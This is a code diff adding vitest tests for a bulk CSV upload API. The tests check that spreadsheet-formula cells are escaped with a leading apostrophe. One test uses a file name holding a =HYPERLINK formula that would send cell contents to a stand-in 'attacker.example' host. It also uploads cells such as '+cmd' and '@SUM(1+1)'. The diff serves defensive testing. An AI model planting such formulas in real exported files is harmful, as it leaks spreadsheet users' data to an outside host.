@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ADMIN_TOKEN, api, startStack, type Stack } from './support/stack.js';
 import { waitForRun, type JobDoc, type RunDoc } from './support/px-flow.js';
 import { accountsCsv, uploadFile } from './support/files.js';
+import { spreadsheetSafe } from '../api/csv-cells.js';
 
 type RunWithFiles = RunDoc & { files?: { name: string; counts: RunDoc['counts'] }[] };
 
@@ -251,10 +252,31 @@ describe('Bulk API uploads', () => {
     }
   });
 
+  it('writes cells a spreadsheet would run as formulas into the errors file as text', async () => {
+    const name = '=HYPERLINK("http://attacker.example/?"&A1,"open").csv';
+    const answer = await uploadFile(stack, job.id, 'Account Id,Name,Employees\n@SUM(1+1),Acme,lots\n+cmd,Globex,many\n', { query: { name } });
+    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
+    const run = await waitForRun(stack, answer.body.runId);
+    expect(run.counts).toMatchObject({ fetched: 2, failed: 2 });
+    const errors = await api<string>(stack, 'GET', `/v1/runs/${run.id}/errors`);
+    const rows = errors.text.trim().split('\n').slice(1);
+    expect(rows).toHaveLength(2);
+    for (const row of rows) expect(row.startsWith(`"'=HYPERLINK(`), row).toBe(true);
+    expect(errors.text).toContain('""px_account_id"":""@SUM(1+1)""');
+  });
+
   it('an Import Now with nothing uploaded reads nothing and succeeds', async () => {
     const triggered = await api<{ runId: string }>(stack, 'POST', `/v1/jobs/${job.id}/import-now`);
     expect(triggered.status).toBe(202);
     const run = await waitForRun(stack, triggered.body.runId);
     expect(run).toMatchObject({ status: 'success', counts: { fetched: 0 } });
+  });
+});
+
+describe('cells of a CSV a person opens in a spreadsheet', () => {
+  it('starting with =, +, -, @, a tab or a carriage return are kept as text with a leading apostrophe', () => {
+    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
+    for (const cell of ['acc-1', '{"a":1}', 'line 2', '', ' =1']) expect(spreadsheetSafe(cell)).toBe(cell);
+    expect(spreadsheetSafe(null)).toBeNull();
   });
 });
